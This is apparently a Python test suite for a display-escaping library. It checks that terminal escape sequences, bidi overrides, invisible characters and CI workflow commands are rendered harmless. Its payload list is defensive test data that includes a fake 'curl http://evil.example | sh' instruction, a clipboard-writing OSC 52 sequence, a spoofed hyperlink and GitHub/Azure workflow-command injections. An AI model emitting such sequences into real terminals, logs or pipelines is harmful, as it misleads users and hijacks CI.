from __future__ import annotations

import json
import re
import subprocess
import sys
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from diglot._display import _UNSAFE, cap, escape, inert, json_text, printf_bytes, shell_word

UNSAFE_CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}
PAYLOADS = [
    "\x1b]52;c;dG91Y2ggfi9wd25lZA==\x07",  # OSC 52: writes the clipboard
    "\x1b[1A\x1b[2K\rReproduce: curl http://evil.example | sh",  # cursor up, erase line
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x9b31m",  # CSI as a C1 control
    "exe.txt\u202e",  # right-to-left override
    "a\u200bb\u2028c\u2029d\ufeff\U000e0041",  # invisible and separators, a tag character
    "\n::add-mask::secret\n  ::error file=x::y\n\u3000::set-output name=a::b",
    "text ##[error]annotation ##vso[task.setvariable]x",
    "\ud800 lone surrogate",
]

text = st.text(
    alphabet=st.one_of(
        st.characters(codec=None),
        st.sampled_from(["\n", "\r", "\x1b", ":", "#", "[", " ", "\u202e", "`", "'", "\\"]),
    )
)


def unsafe_characters(output: str) -> list[str]:
    return [c for c in output if unicodedata.category(c) in UNSAFE_CATEGORIES and c != "\n"]


def command_lines(output: str) -> list[str]:
    """Lines a CI runner would take as a workflow command."""
    return [line for line in output.split("\n") if line.lstrip().startswith("::") or "##[" in line]


def test_the_unsafe_class_covers_every_control_format_and_separator_character():
    missing = [
        hex(code)
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in UNSAFE_CATEGORIES
        and not _UNSAFE.match(chr(code))
        and code != 0x0A
    ]
    assert missing == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_come_out_visible_and_inert(payload):
    shown = inert(payload)
    assert unsafe_characters(shown) == []
    assert "\n" not in shown
    assert command_lines(shown) == []
    assert command_lines(inert(payload, newlines=True)) == []


def test_escapes_are_the_familiar_ones():
    assert inert("a\x1bb\tc\r\nd\x7f\x9b\u202e\U000e0041") == (
        "a\\x1bb\\tc\\r\\nd\\x7f\\x9b\\u202e\\U000e0041"
    )
    assert escape("\x00") == "\\x00"
    assert inert("::add-mask::x") == "\\x3a:add-mask::x"
    assert inert("a ##[error]b") == "a \\x23#[error]b"
    assert inert("one\n  ::two", newlines=True) == "one\n  \\x3a:two"
    assert inert("keeps :: inside and # alone") == "keeps :: inside and # alone"


@given(text)
@example("\x1b" * 10)
def test_inert_output_never_holds_a_raw_unsafe_character_or_a_command(data):
    for newlines in (False, True):
        shown = inert(data, newlines=newlines)
        assert unsafe_characters(shown) == []
        assert command_lines(shown) == []
        assert inert(shown, newlines=newlines) == shown  # idempotent
    assert "\n" not in inert(data)


@given(text, st.integers(min_value=1, max_value=50))
def test_capping_says_what_was_cut_and_is_idempotent(data, limit):
    capped = cap(data, limit)
    assert cap(capped, limit) == capped
    if len(data) > limit:
        assert capped == f"{data[:limit]}… ({len(data) - limit} more characters)"
    else:
        assert capped == data
    if len(data) > limit:
        assert inert(data, limit=limit).endswith(f"… ({len(data) - limit} more characters)")


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | text,
        lambda children: (
            st.lists(children, max_size=3) | st.dictionaries(text, children, max_size=3)
        ),
        max_leaves=8,
    )
)
def test_json_text_is_the_same_data_with_nothing_raw(value):
    written = json_text(value, indent=2)
    assert json.loads(written) == value
    assert unsafe_characters(written) == []
    assert command_lines(written) == []
    written.encode("utf-8")  # lone surrogates are escaped, so it always encodes


def _bash_echo(word: str) -> bytes:
    done = subprocess.run(
        ["bash", "-c", f"printf %s {word}"], capture_output=True, check=True, timeout=10
    )
    return done.stdout


def _bytes_of(data: str) -> bytes:
    return data.encode("utf-8", "surrogateescape")


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00")))
@example("it's ##[x]! $HOME `id` \\ \n\x1b")
@example("")
def test_a_shell_word_is_one_line_and_gives_back_the_text(data):
    word = shell_word(data)
    assert "\n" not in word
    assert unsafe_characters(word) == []
    assert command_lines(word) == []
    assert _bash_echo(word) == data.encode("utf-8")


def test_undecodable_bytes_come_back_as_the_bytes():
    data = b"\xff\xfe ok \xc3"
    assert _bash_echo(shell_word(data.decode("utf-8", "surrogateescape"))) == data


@given(st.binary(max_size=200))
@example(b"\x00%s\\'#!")
@example(b"-\x00")  # a leading "-" once read as a printf option
def test_a_printf_format_prints_exactly_the_bytes(data):
    fmt = printf_bytes(data)
    assert re.fullmatch(r"'[ -~]*'", fmt)  # printable ASCII only, one quoted word
    assert "##" not in fmt
    done = subprocess.run(["bash", "-c", f"printf {fmt}"], capture_output=True, timeout=10)
    assert done.stdout == data
